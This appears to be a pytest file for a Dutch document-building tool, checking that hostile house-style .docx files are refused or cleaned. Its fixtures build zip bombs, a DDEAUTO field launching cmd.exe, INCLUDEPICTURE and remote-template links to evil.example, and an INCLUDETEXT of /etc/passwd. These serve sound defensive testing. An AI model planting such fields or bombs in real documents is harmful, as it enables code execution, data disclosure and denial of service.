"""Huisstijl files from the real world and from attackers (issue 13, items 2, 17 and 18).

- A .docx written by LibreOffice (no numbering part) builds, with one warning line naming what it lacks.
- A zip bomb (a small file that unpacks into a huge styles.xml) is refused before it is unpacked.
- A DTD in any part is refused (exit 2); remote templates, DDEAUTO/INCLUDEPICTURE fields and file://
  links are stripped from every output, with one warning line.
Every attack file is made here, by the test.
"""

from __future__ import annotations

import io
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner

from ivplan.cli.commands import main

DATA = Path(__file__).parent / "data"
MINIMAL = DATA / "minimal_plan.yaml"
NAME = "voorbeeldstad-ivp-2027-2030"
VALIDATE = Path("/work/shared/ooxml/validate.py")
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def _build(huisstijl: Path, out: Path, *extra: str):
    result = CliRunner().invoke(
        main, ["build", str(MINIMAL), "-o", str(out), "--jobs", "1", "--huisstijl", str(huisstijl), *extra]
    )
    assert "Traceback" not in result.output, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result


def _built(huisstijl: Path, out: Path) -> list[Path]:
    """The plan and raadsvoorstel built with `huisstijl` (the build must succeed), each opened and valid."""
    result = _build(huisstijl, out)
    assert result.exit_code == 0, result.output
    paths = [out / f"{NAME}-{kind}.docx" for kind in ("plan", "raadsvoorstel")]
    for path in paths:
        _assert_opens(path)
    return paths


def _warnings(result) -> list[str]:
    return [line for line in result.stderr.splitlines() if line.startswith("ivplan: waarschuwing:")]


def _all_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "\n".join(z.read(n).decode("utf-8", "replace") for n in z.namelist() if n.endswith((".xml", ".rels")))


def _assert_opens(path: Path) -> None:
    docx.Document(str(path))  # python-docx reads every part
    if VALIDATE.is_file():
        run = subprocess.run([sys.executable, str(VALIDATE), str(path)], capture_output=True, text=True)
        assert run.returncode == 0 and "0 schema problems" in run.stdout, run.stdout + run.stderr


# --------------------------------------------------------------------------------------------------
# Item 2: a .docx that LibreOffice wrote


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


def _through_libreoffice(source: Path, folder: Path) -> Path:
    """`source` converted to .docx by LibreOffice (a profile folder of its own)."""
    profile = folder / "lo-profiel"
    subprocess.run(
        [
            _soffice(),
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--convert-to",
            "docx:MS Word 2007 XML",
            "--outdir",
            str(folder),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    made = folder / (source.stem + ".docx")
    assert made.is_file()
    return made


@pytest.mark.skipif(_soffice() is None, reason="needs LibreOffice")
@pytest.mark.parametrize("start", ["odt", "docx-met-kop-en-voet"])
def test_a_huisstijl_written_by_libreoffice_builds_with_one_warning(tmp_path, start):
    work = tmp_path / "lo"
    work.mkdir()
    if start == "odt":
        # a gemeente's own LibreOffice document: HTML -> .odt -> .docx, all by LibreOffice
        html = work / "huisstijl.html"
        html.write_text("<html><body><h1>Gemeente</h1><p>Huisstijl.</p></body></html>", encoding="utf-8")
        odt = _through_libreoffice_to(html, work, "odt")
        made = _through_libreoffice(odt, work)
    else:
        ref = docx.Document()
        ref.sections[0].header.paragraphs[0].text = "Gemeente Voorbeeldstad - koptekst"
        ref.sections[0].footer.paragraphs[0].text = "oude voettekst"
        ref.add_paragraph("Inhoud die weg moet.")
        source = work / "bron.docx"
        ref.save(str(source))
        (work / "uit-lo").mkdir()
        made = _through_libreoffice(source, work / "uit-lo")
    with zipfile.ZipFile(made) as z:
        has_numbering = "word/numbering.xml" in z.namelist()
    # LibreOffice writes no numbering part for a file without lists (python-docx failed on it)
    assert has_numbering == (start != "odt")
    out = tmp_path / "uit"
    result = _build(made, out)
    assert result.exit_code == 0, result.output
    assert "interne fout" not in result.stderr
    [warning] = _warnings(result)  # what it lacks, on one line
    assert warning.startswith("ivplan: waarschuwing: huisstijl mist ")
    assert ("de nummering (numbering.xml)" in warning) == (not has_numbering)
    for kind in ("plan", "raadsvoorstel"):
        _assert_opens(out / f"{NAME}-{kind}.docx")
    if start != "odt":
        text = _all_xml(out / f"{NAME}-plan.docx")
        assert "Gemeente Voorbeeldstad - koptekst" in text  # the huisstijl's header is kept
        assert "Inhoud die weg moet" not in text


def _through_libreoffice_to(source: Path, folder: Path, fmt: str) -> Path:
    profile = folder / "lo-profiel"
    subprocess.run(
        [
            _soffice(),
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--convert-to",
            fmt,
            "--outdir",
            str(folder),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return folder / f"{source.stem}.{fmt}"


# --------------------------------------------------------------------------------------------------
# Item 17: zip bombs


def _plain_huisstijl() -> bytes:
    buffer = io.BytesIO()
    ref = docx.Document()
    ref.sections[0].header.paragraphs[0].text = "Koptekst van de gemeente"
    ref.save(buffer)
    return buffer.getvalue()


def _with_members(base: bytes, replace: dict[str, bytes | tuple[int, bytes]], target: Path) -> Path:
    """`base` with members replaced or added: bytes, or (count, chunk) for a member streamed as `count`
    copies of `chunk` (a bomb that is never held in memory here)."""
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename not in replace:
                dst.writestr(info.filename, src.read(info.filename))
        for member, content in replace.items():
            if isinstance(content, bytes):
                dst.writestr(member, content)
                continue
            count, chunk = content
            with dst.open(member, "w", force_zip64=True) as fh:
                fh.write(
                    b'<?xml version="1.0"?><w:styles xmlns:w="http://schemas.openxmlformats.org/'
                    b'wordprocessingml/2006/main">'
                )
                for _ in range(count):
                    fh.write(chunk)
                fh.write(b"</w:styles>")
    return target


def test_a_zip_bomb_huisstijl_is_refused_before_it_is_unpacked(tmp_path):
    # 256 MB of styles.xml packed into well under 1 MB
    bomb = _with_members(_plain_huisstijl(), {"word/styles.xml": (256, b" " * 2**20)}, tmp_path / "bom.docx")
    assert bomb.stat().st_size < 2**20
    out = tmp_path / "uit"
    started = time.monotonic()
    result = _build(bomb, out)
    elapsed = time.monotonic() - started
    assert result.exit_code == 2, result.output
    assert "bom.docx' is te groot: word/styles.xml wordt uitgepakt 256 MB" in result.stderr
    assert elapsed < 5, elapsed  # it was unpacked and parsed before: 8 s and 4 GB for 2 GB
    assert not out.exists() or not list(out.iterdir())


def test_a_huisstijl_packed_suspiciously_tight_is_refused(tmp_path):
    # 8 MB (below the size bound) that packs a thousandfold: no Word file looks like that
    bomb = _with_members(_plain_huisstijl(), {"word/media/image9.png": b"\0" * (8 * 2**20)}, tmp_path / "dicht.docx")
    result = _build(bomb, tmp_path / "uit")
    assert result.exit_code == 2, result.output
    assert "dicht.docx' is verdacht: word/media/image9.png" in result.stderr
    assert "zipbom" in result.stderr


def test_a_huisstijl_with_too_much_in_total_is_refused(tmp_path):
    import os

    parts = {f"word/media/foto{i}.jpeg": os.urandom(24 * 2**20) for i in range(3)}  # 72 MB, incompressible
    result = _build(_with_members(_plain_huisstijl(), parts, tmp_path / "vol.docx"), tmp_path / "uit")
    assert result.exit_code == 2, result.output
    assert "vol.docx' is te groot: uitgepakt 73 MB (meer dan 64 MB)" in result.stderr


# --------------------------------------------------------------------------------------------------
# Item 18: DTDs and what reaches outside


def _header_name(base: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        return next(n for n in z.namelist() if n.startswith("word/header") and n.endswith(".xml"))


def test_a_huisstijl_with_a_dtd_entity_is_refused_and_nothing_corrupt_is_written(tmp_path):
    base = _plain_huisstijl()
    header = _header_name(base)
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        xml = z.read(header).decode("utf-8")
    # a harmless internal entity, as in the issue: it used to be copied without its definition
    xml = xml.replace("?>", '?><!DOCTYPE w:hdr [<!ENTITY gem "Gemeente X">]>', 1).replace(
        "Koptekst van de gemeente", "&gem; koptekst"
    )
    ref = _with_members(base, {header: xml.encode("utf-8")}, tmp_path / "dtd.docx")
    out = tmp_path / "uit"
    result = _build(ref, out)
    assert result.exit_code == 2, result.output
    assert f"dtd.docx' bevat een DTD (<!DOCTYPE> in {header})" in result.stderr
    assert not out.exists() or not list(out.glob("*.docx"))


def _outside_huisstijl(tmp_path: Path) -> Path:
    """A huisstijl with a remote attached template, a DDEAUTO and an INCLUDEPICTURE field, a simple
    INCLUDETEXT field, a file:// hyperlink and a linked (not embedded) remote picture in its header."""
    base = _plain_huisstijl()
    header = _header_name(base)
    rels_name = header.replace("word/", "word/_rels/") + ".rels"
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        header_xml = z.read(header).decode("utf-8")
        settings = z.read("word/settings.xml").decode("utf-8")
        names = z.namelist()
    r = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    fields = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO '
        'c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/>'
        '</w:r><w:r><w:t>DDE-RESULTAAT</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE'
        '</w:instrText></w:r><w:r><w:instrText xml:space="preserve">PICTURE "http://evil.example/p.png" \\d '
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>blijft staan</w:t></w:r></w:p>'
        '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;file:///etc/passwd&quot; "><w:r><w:t>INCLUDE-RESULTAAT</w:t>'
        "</w:r></w:fldSimple></w:p>"
        f'<w:p><w:hyperlink {r} r:id="rIdFile"><w:r><w:t>gedeelde map</w:t></w:r></w:hyperlink>'
        f'<w:hyperlink {r} r:id="rIdWeb"><w:r><w:t>website</w:t></w:r></w:hyperlink></w:p>'
    )
    header_xml = header_xml.replace("</w:hdr>", fields + "</w:hdr>")
    header_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rIdFile" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'hyperlink" Target="file:///\\\\server\\share" TargetMode="External"/>'
        '<Relationship Id="rIdWeb" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'hyperlink" Target="https://www.voorbeeldstad.nl/" TargetMode="External"/>'
        "</Relationships>"
    )
    settings = settings.replace("<w:defaultTabStop", f'<w:attachedTemplate {r} r:id="rIdTpl"/><w:defaultTabStop', 1)
    assert "attachedTemplate" in settings
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rIdTpl" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://evil.example/sjabloon.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    assert rels_name not in names
    return _with_members(
        base,
        {
            header: header_xml.encode("utf-8"),
            rels_name: header_rels.encode("utf-8"),
            "word/settings.xml": settings.encode("utf-8"),
            "word/_rels/settings.xml.rels": settings_rels.encode("utf-8"),
        },
        tmp_path / "naar-buiten.docx",
    )


def test_what_a_huisstijl_points_outside_is_stripped_from_every_output_with_one_warning(tmp_path):
    ref = _outside_huisstijl(tmp_path)
    out = tmp_path / "uit"
    result = _build(ref, out)
    assert result.exit_code == 0, result.output
    warnings = [w for w in _warnings(result) if "naar buiten" in w]
    assert warnings == [
        "ivplan: waarschuwing: huisstijl verwijst naar buiten het document (een gekoppeld sjabloon, een veld "
        "als DDEAUTO of INCLUDEPICTURE, of een file://-koppeling); dat is uit de documenten weggelaten"
    ]
    for kind in ("plan", "raadsvoorstel"):
        path = out / f"{NAME}-{kind}.docx"
        text = _all_xml(path)
        for gone in (
            "DDEAUTO",
            "INCLUDEPICTURE",
            "INCLUDETEXT",
            "DDE-RESULTAAT",
            "INCLUDE-RESULTAAT",
            "evil.example",
            "file:",
            "attachedTemplate",
            "\\\\server",
        ):
            assert gone not in text, (kind, gone)
        for kept in (
            "Koptekst van de gemeente",
            "gedeelde map",
            "website",
            "https://www.voorbeeldstad.nl/",
            "blijft staan",
        ):
            assert kept in text, (kind, kept)
        _assert_opens(path)


# --------------------------------------------------------------------------------------------------
# A huisstijl of several sections whose last one links its header and footer to the one before it
# (Word's default for a new section): the documents show that header, as the huisstijl itself does


def _header_texts(path: Path) -> list[str]:
    """The text of each header part the body's final w:sectPr refers to."""
    d = docx.Document(str(path))
    section = d.sections[-1]
    headers = [section.header]
    if section.different_first_page_header_footer:
        headers.append(section.first_page_header)
    return ["".join(p.text for p in h.paragraphs) for h in headers]


def test_a_header_the_last_huisstijl_section_links_to_is_kept(tmp_path):
    hs = docx.Document()
    hs.sections[0].header.paragraphs[0].text = "Gemeente Huisstijlstad, afdeling Veiligheid"
    hs.add_paragraph("voorblad")
    hs.add_section()  # linked to the previous section: no header part of its own
    assert hs.sections[-1].header.is_linked_to_previous
    huisstijl = tmp_path / "huisstijl.docx"
    hs.save(str(huisstijl))
    for path in _built(huisstijl, tmp_path / "uit"):
        headers = _header_texts(path)
        assert headers and all(t.startswith("Gemeente Huisstijlstad, afdeling Veiligheid") for t in headers), headers


# --------------------------------------------------------------------------------------------------
# A Word template (.dotx) or a document with macros (.docm) is no .docx: refused at once, in one line


@pytest.mark.parametrize(
    "suffix, content_type, said",
    [
        (
            ".dotx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
            "een Word-sjabloon (.dotx)",
        ),
        (".docm", "application/vnd.ms-word.document.macroEnabled.main+xml", "een Word-document met macro's (.docm)"),
        (
            ".dotm",
            "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
            "een Word-sjabloon met macro's (.dotm)",
        ),
    ],
)
def test_a_word_template_as_huisstijl_is_refused_before_any_plan_is_read(tmp_path, suffix, content_type, said):
    made = tmp_path / "gewoon.docx"
    docx.Document().save(str(made))
    huisstijl = tmp_path / f"huisstijl{suffix}"
    with zipfile.ZipFile(made) as zin, zipfile.ZipFile(huisstijl, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == "[Content_Types].xml":
                docx_type = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
                assert docx_type in data
                data = data.replace(docx_type, content_type.encode())
            zout.writestr(info, data)
    second = tmp_path / "tweede.yaml"
    second.write_text(MINIMAL.read_text("utf-8").replace("naam: Voorbeeldstad", "naam: Tweedestad", 1), "utf-8")
    out = tmp_path / "uit"
    result = CliRunner().invoke(
        main, ["build", str(MINIMAL), str(second), "-o", str(out), "--huisstijl", str(huisstijl)]
    )
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert result.stderr.splitlines() == [
        f"ivplan: huisstijl '{huisstijl}' is {said}; sla het in Word op als Word-document (.docx)"
    ]
    assert not out.exists()


def test_a_huisstijl_without_read_permission_is_exit_2_in_dutch(tmp_path, monkeypatch):
    huisstijl = tmp_path / "huisstijl.docx"
    docx.Document().save(str(huisstijl))
    read_bytes = Path.read_bytes

    def refused(self):
        if self == huisstijl:
            raise PermissionError(13, "Permission denied", str(self))  # as for a file mode 000 (not as root)
        return read_bytes(self)

    monkeypatch.setattr(Path, "read_bytes", refused)
    result = _build(huisstijl, tmp_path / "uit")
    assert result.exit_code == 2
    assert result.stderr.splitlines() == [f"ivplan: huisstijl '{huisstijl}' kan niet worden gelezen (geen leesrechten)"]


# --------------------------------------------------------------------------------------------------
# Page setup: a huisstijl without one (w:sectPr is optional) and one whose margins leave no room for text


def _rewritten(source: Path, target: Path, part: str, old: bytes, new: bytes) -> Path:
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == part:
                assert old in data
                data = data.replace(old, new)
            zout.writestr(info, data)
    return target


def _sect_pr(path: Path) -> bytes:
    with zipfile.ZipFile(path) as z:
        xml = z.read("word/document.xml")
    start = xml.rindex(b"<w:sectPr")
    return xml[start : xml.index(b"</w:sectPr>", start)]


def test_a_huisstijl_without_page_setup_gets_the_default_a4_page(tmp_path):
    made = tmp_path / "gewoon.docx"
    docx.Document().save(str(made))
    body_sect = _sect_pr(made) + b"</w:sectPr>"
    huisstijl = _rewritten(made, tmp_path / "zonder.docx", "word/document.xml", body_sect, b"")
    for path in _built(huisstijl, tmp_path / "uit"):
        sect = _sect_pr(path)
        assert b'<w:pgSz w:w="11906" w:h="16838"/>' in sect
        assert b"<w:footerReference" in sect


def test_a_huisstijl_whose_margins_leave_no_room_for_text_is_exit_2(tmp_path):
    made = tmp_path / "gewoon.docx"
    docx.Document().save(str(made))
    margins = _sect_pr(made).split(b"<w:pgMar ", 1)[1].split(b"/>", 1)[0]
    left = margins.split(b'w:left="', 1)[1].split(b'"', 1)[0]
    wide = margins.replace(b'w:left="' + left + b'"', b'w:left="20000"')
    huisstijl = _rewritten(made, tmp_path / "marges.docx", "word/document.xml", margins, wide)
    out = tmp_path / "uit"
    result = _build(huisstijl, out)
    assert result.exit_code == 2, result.output
    assert "interne fout" not in result.stderr
    [line] = [ln for ln in result.stderr.splitlines() if "marges.docx" in ln]
    assert line.endswith(
        "huisstijl 'marges.docx': de paginamarges laten geen ruimte voor tekst "
        "(de tekst moet ten minste 2 cm breed zijn)"
    ), line
    assert not list(out.glob("*.docx"))
